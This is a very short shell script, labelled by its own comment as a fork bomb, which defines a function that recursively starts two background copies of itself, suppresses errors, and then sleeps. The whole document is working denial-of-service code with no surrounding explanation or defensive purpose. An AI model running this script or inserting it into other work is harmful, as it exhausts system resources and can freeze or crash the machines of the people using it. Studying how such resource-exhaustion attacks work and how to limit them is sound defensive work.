# A fork bomb: every process starts two more and never ends.
bomb() { bomb & bomb & wait; }
bomb 2>/dev/null
sleep 30
